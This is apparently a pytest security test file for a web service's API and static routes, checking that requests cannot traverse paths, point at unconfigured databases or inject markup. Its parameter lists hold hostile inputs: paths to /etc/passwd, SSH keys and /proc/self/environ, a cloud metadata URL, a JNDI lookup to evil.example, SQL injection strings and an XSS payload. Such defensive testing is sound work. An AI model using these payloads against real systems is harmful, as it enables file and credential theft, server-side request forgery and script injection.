"""C12, C10, C20: no path, url or name in a request leads anywhere but to what the configuration names, or into a page as markup."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from dbupkeep.access import Access, Role
from tests.integration.http.security.conftest import Client

JSON = ("Content-Type", "application/json")

TRAVERSAL = [
    "/etc/passwd", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "~/.ssh/id_rsa",
    "file:///etc/passwd", "sqlite:///etc/passwd", "sqlite:///tmp/made-by-a-request.db", "sqlite://", "sqlite:///:memory:",
    "file:x?mode=rwc", "sqlite:///x?mode=rwc&vfs=unix-none", "postgresql://evil.example/x", "postgresql:///x?host=/tmp",
    "http://169.254.169.254/latest", "\\\\evil.example\\share", "/dev/zero", "/proc/self/environ", "a/../a", "a\0b", "a\nb",
    "x" * 5000, "", ".", "*", "a; DROP TABLE jobs", "' OR 1=1 --", "%s%n", "${jndi:ldap://evil.example/x}", "A",
]  # fmt: skip


@pytest.mark.parametrize("name", TRAVERSAL)
def test_a_request_names_configured_databases_or_none(client: Client, tmp_path: Path, name: str) -> None:
    before = {path.name for path in tmp_path.iterdir()}
    bodies: list[dict[str, Any]] = [{"targets": [name]}, {"definition": name}, {"plan": name}]
    for path in ("/api/v1/plans", "/api/v1/runs"):
        for body in bodies:
            answer = client.ask("POST", path, JSON, body=json.dumps(body).encode(), role="admin")
            assert answer.status in (404, 422), (path, body, answer)
    extra = {"definition": "one", "url": name}
    assert client.ask("POST", "/api/v1/runs", JSON, body=json.dumps(extra).encode(), role="admin").status == 422
    assert {path.name for path in tmp_path.iterdir()} == before
    assert not Path("/tmp/made-by-a-request.db").exists()  # noqa: S108 - must not be there


@pytest.mark.parametrize(
    "path",
    [
        "/static/../static/__init__.py", "/static/..%2f..%2fsite.py", "/static/%2e%2e/%2e%2e/site.py", "/static//etc/passwd",
        "/static/..%5c..%5csite.py", "/static/....//site.py", "/static/%00", "/static/__init__.py", "/static/.",
        "/static/..;/site.py", "/static/%252e%252e/site.py", "/static/page.css/../../html/base.html",
    ],
)  # fmt: skip
def test_files_of_the_page_are_all_that_is_served_of_files(client: Client, path: str) -> None:
    for role in ("", "admin"):
        answer = client.ask("GET", path, role=role)
        assert answer.status in (400, 401, 404), answer
        assert b"import" not in answer.body


@pytest.mark.parametrize("path", ["/api/v1/jobs?limit=100000000", "/api/v1/audit?limit=100000000", "/api/v1/events?limit=100000000",
                                  "/api/v1/history?limit=100000000", "/api/v1/jobs?limit=-1", "/api/v1/events?after=-1"])  # fmt: skip
def test_nobody_asks_for_everything_at_once(client: Client, path: str) -> None:
    assert client.get(path, role="admin").status == 422


MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"


def test_a_name_does_not_become_markup(client: Client, access: Access) -> None:
    client.tokens["hostile"] = access.create(MARKUP, Role.ADMIN, by=MARKUP)
    browser = client.log_in("hostile")
    for path in ("/audit", "/", f"/runs/{MARKUP}", f"/history?target={MARKUP}", f"/login?next={MARKUP}"):
        answer = client.get(path.replace(" ", "%20"), browser.cookie, ("Accept", "text/html"))
        assert b"<script>alert" not in answer.body, path
        assert b"<img src=x" not in answer.body, path
        assert "unsafe" not in answer.header("content-security-policy")
    assert b"&lt;script&gt;alert(1)" in client.get("/audit", browser.cookie).body


def test_json_is_told_to_be_json(client: Client, access: Access) -> None:
    client.tokens["hostile"] = access.create(MARKUP, Role.ADMIN, by="test")
    for path in ("/api/v1/audit", "/api/v1/nowhere", "/api/v1/jobs/%3Cscript%3E"):
        answer = client.get(path, ("Accept", "text/html"), role="hostile")
        assert answer.header("content-type").startswith(("application/json", "application/problem+json"))
        assert answer.header("x-content-type-options") == "nosniff"
